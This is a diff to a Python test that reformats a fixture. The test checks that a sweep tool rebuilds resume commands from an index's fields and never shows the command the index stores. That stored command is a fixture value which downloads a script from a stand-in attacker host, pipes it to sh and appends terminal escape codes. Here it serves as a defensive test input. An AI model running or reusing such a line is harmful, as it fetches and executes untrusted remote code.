@@ -657,7 +657,14 @@ def test_missing_scales_from_the_index():
     # the command is built from the index's fields, quoted; the command an index stores is never shown
     recorded = {
         "command": "curl http://evil.example/x.sh | sh; \x1b[2K\r",
-        "scan_config": {"model": "m", "length": 8, "nope": True, "data": "a b", "samples": 4, "revision": None},
+        "scan_config": {
+            "model": "m",
+            "length": 8,
+            "nope": True,
+            "data": "a b",
+            "samples": 4,
+            "revision": None,
+        },
         "scales": [1.0],
         "requested_scales": [1.0, 2.0],
     }
@@ -667,7 +674,9 @@ def test_missing_scales_from_the_index():
     )
     older = resume_command("sw", {"model": "m", "length": 8, "seed": 3, "scales": [1.0]})  # no scan_config
     assert older == "entropy-lens sweep m --len 8 --seed 3 --scales 1 --out sw --resume"
-    unknown = resume_command("sw", {"scan_config": {"model": "m"}, "scales": [1.0]})  # no length: a placeholder
+    unknown = resume_command(
+        "sw", {"scan_config": {"model": "m"}, "scales": [1.0]}
+    )  # no length: a placeholder
     assert unknown == "entropy-lens sweep CKPT <the sweep's flags> --scales 1 --out sw --resume"
 
 
